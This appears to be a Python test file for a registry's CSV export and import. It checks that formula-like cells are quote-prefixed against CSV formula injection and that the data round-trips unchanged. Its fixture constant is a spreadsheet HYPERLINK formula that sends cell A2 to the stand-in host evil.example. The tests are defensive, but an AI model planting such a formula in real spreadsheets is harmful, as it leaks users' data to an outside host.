"""CSV formula injection: what the CLI and the web export write for a hostile note, and that the
file imports back to the very same rows (devices, sites, locations), for any text a note can hold."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from sqlalchemy import delete, select
from sqlalchemy.orm import Session

from registry.actors import Actor
from registry.csvio import export_csv, import_csv
from registry.models import ChangeLog, Device, Location, Site
from registry.services import update_object
from tests import factories as f
from tests.web_support import login, user

CSV_ACTOR = Actor.system("csv", "cli")
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A2,"click")'


def _export(session: Session, object_type: str, **kw: Any) -> str:
    out = io.StringIO(newline="")
    export_csv(session, CSV_ACTOR, object_type, out, **kw)
    return out.getvalue()


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def _devices(session: Session) -> list[tuple[Any, ...]]:
    session.expire_all()
    return sorted(
        (d.ani, d.test_ani, d.kind, d.site_id, d.location_id, d.vendor, d.serial, d.notes)
        for d in session.scalars(select(Device))
    )


def test_a_hyperlink_note_goes_out_quoted_the_ani_unquoted_and_both_come_back(
    runner, session, tmp_path: Path
) -> None:
    site = f.site(session)
    f.device(session, site.id, ani="+493023905601", test_ani="+493023905691", notes=HYPERLINK)
    f.device(session, site.id, ani="+442079460101", kind="door_intercom", vendor="-", serial="@7", notes="+1")
    session.commit()
    before = _devices(session)

    out = tmp_path / "devices.csv"
    result = runner.invoke(args=["devices", "export", "-o", str(out)])
    assert result.exit_code == 0, result.output
    text = out.read_bytes().decode("utf-8")
    rows = {r["ani"]: r for r in _rows(text)}
    assert set(rows) == {"+493023905601", "+442079460101"}  # E.164 goes out as it is: +49..., +44...
    assert rows["+493023905601"]["notes"] == "'" + HYPERLINK
    assert rows["+493023905601"]["test_ani"] == "+493023905691"
    assert (rows["+442079460101"]["vendor"], rows["+442079460101"]["serial"]) == ("'-", "'@7")
    assert rows["+442079460101"]["notes"] == "'+1"
    assert "\r\n1,+493023905601,elevator_phone," in text  # the ANI cell itself, not quoted
    assert '"\'=HYPERLINK(""http://evil.example/?""&A2,""click"")"' in text

    # with ids: every row imports as unchanged, nothing is logged
    logged = len(session.scalars(select(ChangeLog)).all())
    result = runner.invoke(args=["devices", "import", str(out)])
    assert result.exit_code == 0, result.output
    assert "devices: 2 rows; 0 created, 0 updated, 2 unchanged" in result.stdout
    assert _devices(session) == before and len(session.scalars(select(ChangeLog)).all()) == logged

    # without ids, into an emptied registry: the same rows again
    result = runner.invoke(args=["devices", "export", "--no-ids", "-o", str(out)])
    assert result.exit_code == 0, result.output
    session.execute(delete(Device))
    session.commit()
    result = runner.invoke(args=["devices", "import", str(out)])
    assert result.exit_code == 0 and "2 created" in result.stdout, result.output
    after = _devices(session)
    assert [row[:3] + row[4:] for row in after] == [row[:3] + row[4:] for row in before]
    assert next(d for d in session.scalars(select(Device)) if d.ani == "+493023905601").notes == HYPERLINK


def test_the_web_export_quotes_the_formula_and_the_upload_reads_it_back(client, session) -> None:
    site = f.site(session)
    device = f.device(session, site.id, ani="+493023905601", notes=HYPERLINK)
    session.commit()
    user(session, "ada")
    login(client, "ada")
    body = client.get("/devices/export.csv").get_data(as_text=True)
    (row,) = _rows(body)
    assert (row["ani"], row["notes"]) == ("+493023905601", "'" + HYPERLINK)

    report = import_csv(session, CSV_ACTOR, "device", io.StringIO(body, newline=""))
    assert report.ok and (report.created, report.updated, report.unchanged) == (0, 0, 1), report.errors
    session.refresh(device)
    assert device.notes == HYPERLINK


def test_sites_and_locations_round_trip_their_formula_like_cells(session) -> None:
    center = f.center(session, name="=Control")
    site = f.site(session, address="-1 Main Street", notes="@ reception", day_center=center.id)
    f.location(session, site.id, building="+North", name="'=Lift 1", floor="-3", notes="\tkey")
    session.commit()
    sites, locations = _export(session, "site"), _export(session, "location")
    (srow,) = _rows(sites)
    assert (srow["address"], srow["notes"], srow["day_center"]) == (
        "'-1 Main Street",
        "'@ reception",
        "'=Control",
    )
    (lrow,) = _rows(locations)
    assert (lrow["building"], lrow["name"], lrow["floor"]) == ("'+North", "''=Lift 1", "'-3")
    for object_type, text in (("site", sites), ("location", locations)):
        report = import_csv(session, CSV_ACTOR, object_type, io.StringIO(text, newline=""))
        assert report.ok and report.unchanged == 1, report.errors

    # without ids the location file makes the same place again (another registry, same site slug)
    no_ids = _export(session, "location", include_id=False)
    session.execute(delete(Location))
    report = import_csv(session, CSV_ACTOR, "location", io.StringIO(no_ids, newline=""))
    assert report.ok and report.created == 1, report.errors
    loc = session.scalars(select(Location)).one()
    assert (loc.building, loc.name, loc.floor) == ("+North", "'=Lift 1", "-3")
    assert session.scalars(select(Site)).one().notes == "@ reception"


# any note the registry can hold: the cleaners trim it and refuse NUL; at most 10,000 characters
#: any text the registry stores (it refuses NUL and lone surrogates, which no database can keep)
notes = st.text(st.characters(exclude_characters="\x00", exclude_categories=["Cs"]), max_size=200).map(
    str.strip
)


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(note=notes, vendor=notes.map(lambda v: v[:120]))
@example(note=HYPERLINK, vendor="-")
@example(note="'=1", vendor="@x")
def test_any_note_survives_export_and_import_unchanged(session, note: str, vendor: str) -> None:
    if session.scalars(select(Site)).first() is None:
        site = f.site(session)
        f.device(session, site.id, ani="+493023905601")
        session.commit()
    device = session.scalars(select(Device)).one()
    update_object(session, CSV_ACTOR, "device", device.id, {"notes": note, "vendor": vendor})
    session.commit()
    text = _export(session, "device")
    (row,) = _rows(text)
    assert not row["notes"].startswith(("=", "+", "-", "@", "\t", "\r"))
    report = import_csv(session, CSV_ACTOR, "device", io.StringIO(text, newline=""))
    assert report.ok and report.unchanged == 1, (report.errors, row["notes"])
    session.rollback()
    session.refresh(device)
    assert (device.notes, device.vendor) == (note, vendor)
